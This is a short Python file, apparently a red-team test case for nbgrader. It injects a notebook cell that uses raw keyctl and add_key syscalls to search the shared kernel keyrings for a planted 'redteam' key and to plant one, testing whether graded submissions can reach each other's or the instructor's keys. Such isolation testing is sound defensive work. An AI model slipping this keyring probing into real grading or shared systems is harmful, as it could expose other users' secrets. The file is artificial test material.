"""Leaves a note in the kernel's keyrings, which every process forked from one parent may share.

Stock nbgrader: the instructor's own keys are there too.
"""

ALSO = ("04_ridge_descent",)
CELLS = {
    "extra first cell": """
import ctypes

ADD_KEY, REQUEST_KEY, KEYCTL = 248, 249, 250  # of x86-64
libc = ctypes.CDLL(None, use_errno=True)
for ring in (-1, -2, -3, -4, -5):
    found = libc.syscall(KEYCTL, 10, ring, b"user", b"redteam", 0)
    if found > 0:
        print("STOLEN", ring, found)
    print(ring, libc.syscall(ADD_KEY, b"user", b"redteam", b"x", 1, ring))
"""
}
